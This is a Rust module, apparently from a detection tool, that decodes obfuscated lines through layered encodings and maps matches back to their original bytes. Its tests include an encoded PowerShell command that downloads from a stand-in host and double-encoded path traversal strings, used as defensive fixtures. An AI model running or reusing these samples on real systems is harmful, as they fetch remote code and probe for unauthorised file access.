//! A decoded reading of a line, which remembers where each of its bytes came from.

use std::ops::Range;

use super::{DECODINGS, Decoding, written};

/// What one written form stands for.
pub(super) struct Edit {
    /// Bytes of the written form, at least one.
    pub(super) written: usize,
    made: Made,
}

enum Made {
    /// The bytes in the first so many places, all of which stand for the whole form.
    Few([u8; 16], usize),
    /// Many bytes, each of which stands for its share of the form.
    Many(Vec<u8>),
}

impl Edit {
    /// A written form of `written` bytes that stands for one byte.
    pub(super) fn byte(written: usize, byte: u8) -> Edit {
        Edit::text(written, &[byte])
    }

    /// A written form of `written` bytes that stands for at most 16 bytes, or for nothing.
    pub(super) fn text(written: usize, text: &[u8]) -> Edit {
        let mut bytes = [0; 16];
        let length = text.len().min(16);
        bytes[..length].copy_from_slice(&text[..length]);
        Edit { written, made: Made::Few(bytes, length) }
    }

    /// A written form that stands for one character.
    pub(super) fn character(written: usize, character: char) -> Edit {
        Edit::text(written, character.encode_utf8(&mut [0; 4]).as_bytes())
    }

    /// A written form of `written` bytes that stands for a whole text.
    pub(super) fn long(written: usize, text: Vec<u8>) -> Edit {
        Edit { written, made: Made::Many(text) }
    }

    /// The bytes it stands for.
    pub(super) fn bytes(&self) -> &[u8] {
        match &self.made {
            Made::Few(bytes, length) => &bytes[..*length],
            Made::Many(bytes) => bytes,
        }
    }

    /// Where the byte `nth` of them stands in the form.
    fn place(&self, nth: usize) -> usize {
        match &self.made {
            Made::Few(..) => 0,
            Made::Many(bytes) => nth * self.written / bytes.len().max(1),
        }
    }
}

/// Where a decoded byte stood in the reading below: its position, whether decoding made it, and whether decoding took
/// something away right before it.
#[derive(Clone, Copy, Debug)]
struct Origin {
    position: u32,
    made: bool,
    behind: bool,
}

/// A decoded reading of a line.
#[derive(Clone, Debug)]
pub struct View {
    /// The decoded bytes.
    pub bytes: Vec<u8>,
    levels: Vec<Level>,
}

/// One decoding on top of another.
#[derive(Clone, Debug)]
struct Level {
    name: &'static str,
    /// One more than the decoded bytes: the last is the end.
    origins: Vec<Origin>,
}

/// Where a match in a [`View`] stands in the line, and by which decodings it is seen.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Trace {
    /// Bytes of the line as written.
    pub span: Range<usize>,
    /// Outermost first.
    pub decoding: Vec<String>,
}

impl View {
    /// The way back of `span`; `None` where the last decoding changed neither it nor its neighbors, so that
    /// the reading below shows the same match.
    pub fn trace(&self, span: Range<usize>) -> Option<Trace> {
        let mut decoding = Vec::new();
        let mut span = span;
        for (depth, level) in self.levels.iter().enumerate().rev() {
            let from = span.start.saturating_sub(1);
            let until = (span.end + 1).min(level.origins.len());
            let touched = level.origins[from..until].iter().any(|origin| origin.made || origin.behind);
            if !touched && depth + 1 == self.levels.len() {
                return None;
            }
            if touched {
                decoding.push(level.name.to_owned());
            }
            let start = level.origins[span.start].position as usize;
            let last = span.end.checked_sub(1).map(|last| level.origins[last]);
            let end = match last.filter(|last| !last.made) {
                Some(last) => last.position + 1,
                None => level.origins[span.end].position,
            };
            span = start..end as usize;
        }
        decoding.reverse();
        Some(Trace { span, decoding })
    }
}

/// Every decoded reading of `line`: each decoding on top of the ones before it, again and again, until nothing
/// changes or `rounds` are done. Empty for a line without written forms.
///
/// What is looked for may hold a written form itself, `%20` in a URL: before these, the readings in which the first
/// decodings are left out.
pub fn views(line: &[u8], rounds: usize) -> Vec<View> {
    let mut all: Vec<View> = Vec::new();
    let mut chain: Vec<View> = Vec::new();
    for (number, decoding) in DECODINGS.iter().enumerate() {
        let Some(view) = on_top(None, line, decoding) else { continue };
        let mut alone = vec![view];
        round(line, &DECODINGS[number + 1..], &mut alone);
        if chain.is_empty() {
            chain = alone;
        } else {
            all.append(&mut alone);
        }
    }
    for _ in 1..rounds {
        let before = chain.len();
        round(line, &DECODINGS, &mut chain);
        if chain.len() == before {
            break;
        }
    }
    all.append(&mut chain);
    all
}

/// Puts each of `decodings` that changes something on top of the last reading of the chain, which is not empty. Most
/// readings hold no written form any more: one look tells it of all decodings at once.
fn round(line: &[u8], decodings: &[Decoding], chain: &mut Vec<View>) {
    if chain.last().is_none_or(|last| !written::any(&last.bytes)) {
        return;
    }
    for decoding in decodings {
        if let Some(view) = on_top(chain.last(), line, decoding) {
            chain.push(view);
        }
    }
}

fn on_top(below: Option<&View>, line: &[u8], decoding: &Decoding) -> Option<View> {
    let (below, levels) =
        below.map_or((line, [].as_slice()), |view| (view.bytes.as_slice(), view.levels.as_slice()));
    let (bytes, origins) = apply(below, decoding)?;
    let mut levels = levels.to_vec();
    levels.push(Level { name: decoding.name, origins });
    Some(View { bytes, levels })
}

type Applied = (Vec<u8>, Vec<Origin>);

/// The text below with every written form replaced by what it stands for; `None` where there is none.
fn apply(below: &[u8], decoding: &Decoding) -> Option<Applied> {
    let mut applied: Option<Applied> = None;
    let (mut copied, mut from) = (0, 0);
    let mut behind = false;
    while let Some(at) = (decoding.next)(below, from) {
        from = at + 1;
        let Some(edit) = (decoding.at)(below, at) else { continue };
        let (bytes, origins) = applied
            .get_or_insert_with(|| (Vec::with_capacity(below.len()), Vec::with_capacity(below.len() + 1)));
        behind &= copy(below, copied..at, bytes, origins, behind);
        for (nth, byte) in edit.bytes().iter().enumerate() {
            bytes.push(*byte);
            origins.push(Origin { position: (at + edit.place(nth)) as u32, made: true, behind });
            behind = false;
        }
        behind |= edit.bytes().is_empty();
        copied = at + edit.written.max(1);
        from = copied;
    }
    let (mut bytes, mut origins) = applied?;
    behind &= copy(below, copied..below.len(), &mut bytes, &mut origins, behind);
    origins.push(Origin { position: below.len() as u32, made: false, behind });
    Some((bytes, origins))
}

/// Copies `span`, in front of which something was taken away if `behind` says so; tells whether it is empty.
fn copy(
    below: &[u8],
    span: Range<usize>,
    bytes: &mut Vec<u8>,
    origins: &mut Vec<Origin>,
    behind: bool,
) -> bool {
    let first = span.start;
    let is_empty = span.is_empty();
    bytes.extend_from_slice(below.get(span.clone()).unwrap_or_default());
    let origin = |position: usize| Origin {
        position: position as u32,
        made: false,
        behind: behind && position == first,
    };
    origins.extend(span.map(origin));
    is_empty
}

impl View {
    /// A reading made by `name` from `(byte, position)` pairs, whose bytes are all made by decoding.
    pub(super) fn made(name: &'static str, made: &[(u8, u32)], end: u32) -> View {
        let bytes = made.iter().map(|(byte, _)| *byte).collect();
        let mut origins: Vec<Origin> = made
            .iter()
            .map(|(_, position)| Origin { position: *position, made: true, behind: false })
            .collect();
        origins.push(Origin { position: end, made: false, behind: false });
        View { bytes, levels: vec![Level { name, origins }] }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn last(line: &str) -> String {
        views(line.as_bytes(), 4)
            .pop()
            .map(|view| String::from_utf8_lossy(&view.bytes).into_owned())
            .unwrap_or_default()
    }

    #[test]
    fn undoes_forms_within_forms() {
        assert_eq!(last("%252e%252e"), "..");
        assert_eq!(last("a&amp;#46;b"), "a.b");
        assert_eq!(last(r"%5cx2e"), ".");
        assert_eq!(last("plain 100 % & more"), "");
    }

    #[test]
    fn traces_a_match_to_the_bytes_as_written() {
        let line = b"GET /%2563ourier/x";
        let all = views(line, 4);
        let view = all.last().expect("two rounds");
        assert_eq!(view.bytes, b"GET /courier/x");
        let trace = view.trace(4..12).expect("decoded");
        assert_eq!(trace.span, 4..16);
        assert_eq!(trace.decoding, ["percent", "percent"]);
        assert_eq!(view.trace(12..14), None);
    }

    #[test]
    fn a_form_that_is_looked_for_is_kept_where_others_are_undone() {
        let readings = |line: &str| -> Vec<String> {
            let all = views(line.as_bytes(), 4);
            all.iter().map(|view| String::from_utf8_lossy(&view.bytes).into_owned()).collect()
        };
        for (line, wanted) in [
            (r"http:\/\/a.net\/p\/a%20b.bin", "http://a.net/p/a%20b.bin"),
            ("hxxp://a[.]net/p/a%20b.bin", "http://a.net/p/a%20b.bin"),
            (r"hxxp:\/\/a[.]net\/p\/a%20b.bin", "http://a.net/p/a%20b.bin"),
            (r"\/vpn\/%252e%252e\/x.php", "/vpn/%252e%252e/x.php"),
            ("u=http&#58;//a.net/p/a%20b.bin", "u=http://a.net/p/a%20b.bin"),
        ] {
            assert!(readings(line).iter().any(|reading| reading == wanted), "{line}");
        }
        assert_eq!(readings("a%20b"), ["a b"]);
        assert_eq!(readings(r"a%20b\/"), ["a%20b/", r"a b\/", "a b/"]);
    }

    #[test]
    fn what_was_taken_away_is_no_part_of_the_match() {
        let line = b"c=\x1b[36m1.2.3.4\x1b[0m";
        let view = views(line, 4).pop().expect("decoded");
        assert_eq!(view.bytes, b"c=1.2.3.4");
        let trace = view.trace(2..9).expect("touched");
        assert_eq!((trace.span, trace.decoding), (7..14, vec!["terminal".to_owned()]));
        assert_eq!(view.trace(0..1), None);
    }

    #[test]
    fn a_match_in_base64_stands_at_its_own_characters() {
        let line = b"powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGIAYQBkAC4AbgBlAHQALwB4AA== x";
        let view = views(line, 4).pop().expect("decoded");
        assert_eq!(view.bytes, b"powershell -enc iwr http://bad.net/x x");
        let trace = view.trace(27..34).expect("made by decoding");
        assert_eq!(trace.decoding, ["base64"]);
        assert!(trace.span.start > 40 && trace.span.end < 70, "{:?}", trace.span);
        assert_eq!(view.trace(16..36).expect("made by decoding").span, 16..72);
    }

    #[test]
    fn never_grows_past_the_bytes_as_written() {
        let line = "%".repeat(1_000) + &"&#46;".repeat(100);
        assert!(views(line.as_bytes(), 4).iter().all(|view| view.bytes.len() <= line.len()));
    }
}
